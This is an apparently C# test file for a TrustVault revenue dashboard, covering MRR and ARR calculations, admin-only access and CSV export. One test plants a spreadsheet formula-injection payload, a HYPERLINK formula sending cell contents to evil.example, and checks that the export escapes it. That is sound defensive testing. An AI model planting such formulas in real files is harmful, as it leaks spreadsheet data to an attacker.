using Microsoft.EntityFrameworkCore;
using TrustVault.Core.Billing;
using TrustVault.Core.Catalog;
using TrustVault.Core.Data;
using TrustVault.Core.Errors;
using TrustVault.Core.Organizations;
using TrustVault.Core.Subscriptions;
using TrustVault.Tests.Infrastructure;

namespace TrustVault.Tests.Billing;

public sealed class RevenueDashboardTests : IAsyncLifetime
{
    private readonly CoreTestHost host = new();
    private readonly Dictionary<string, Guid> plans = [];
    private PublishedListing tides = null!;

    public async Task InitializeAsync()
    {
        // The clock starts on 1 November 2026 at 09:00 UTC.
        await host.InitializeAsync();
        tides = await host.PublishTidesAsync(
            new PlanInput { Name = "Pro", MonthlyPrice = 30m }, new PlanInput { Name = "Max", MonthlyPrice = 40m }, new PlanInput { Name = "Trial", MonthlyPrice = 30m, TrialDays = 14 });
        (plans["Pro"], plans["Max"], plans["Trial"]) = (tides.PlanIds[0], tides.PlanIds[1], tides.PlanIds[2]);
    }

    public Task DisposeAsync() => host.DisposeAsync();

    private async Task<(string UserId, Guid OrganizationId, Guid SubscriptionId)> SubscribeAsync(string email, string plan)
    {
        var (userId, organization) = await host.AddCustomerAsync(email, TestCards.Visa);
        var subscription = await host.Get<SubscriptionService>().SubscribeAsync(userId, organization, plans[plan], CancellationToken.None);
        return (userId, organization, subscription.SubscriptionId);
    }

    [Fact]
    public async Task Mrr_moves_with_new_subscriptions_upgrades_and_trials_that_end()
    {
        var admin = await host.AddAdminAsync("admin@example.com");
        var (userA, organizationA, subscriptionA) = await SubscribeAsync("a@example.com", "Pro");
        host.Clock.SetUtcNow(new DateTimeOffset(2026, 12, 10, 0, 0, 0, TimeSpan.Zero));
        await host.Get<SubscriptionService>().ChangePlanAsync(userA, organizationA, subscriptionA, plans["Max"], CancellationToken.None);
        await SubscribeAsync("b@example.com", "Trial");

        var dashboard = await host.Get<RevenueDashboardService>().GetAsync(admin, 2, "USD", CancellationToken.None);

        // November: A pays $30. December: A upgrades to $40 (+$10 expansion); B's trial ends on the 24th, so B is new at $30.
        var (november, december) = (dashboard.Report.Months[0], dashboard.Report.Months[1]);
        Assert.Equal((30m, 1, 30m), (november.Mrr, november.Customers, november.Movements.New));
        Assert.Equal((70m, 840m, 2, 30m, 10m), (december.Mrr, december.Arr, december.Customers, december.Movements.New, december.Movements.Expansion));
        Assert.Equal(40m / 30m, december.NetRevenueRetention);
        Assert.Equal("Tides", dashboard.NameOf(Assert.Single(dashboard.Report.TopProducts).Id));
        Assert.StartsWith("month,mrr,arr,customers,new,expansion", RevenueCsv.Write(dashboard, "months"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Only_admins_see_revenue()
    {
        var (user, _, _) = await SubscribeAsync("a@example.com", "Pro");

        await Assert.ThrowsAsync<ForbiddenException>(() => host.Get<RevenueDashboardService>().GetAsync(user, 12, "USD", CancellationToken.None));
    }

    [Fact]
    public async Task A_name_that_reads_as_a_formula_is_exported_as_text()
    {
        var admin = await host.AddAdminAsync("admin@example.com");
        await host.Get<OrganizationService>().RenameAsync(tides.ProviderId, tides.ProviderOrganizationId, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Acme\")", CancellationToken.None);
        await SubscribeAsync("a@example.com", "Pro");

        var dashboard = await host.Get<RevenueDashboardService>().GetAsync(admin, 1, "USD", CancellationToken.None);

        Assert.Equal(
            "provider,mrr,customers,share\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Acme\"\")\",30,1,1\r\n",
            RevenueCsv.Write(dashboard, "providers"));
    }
}
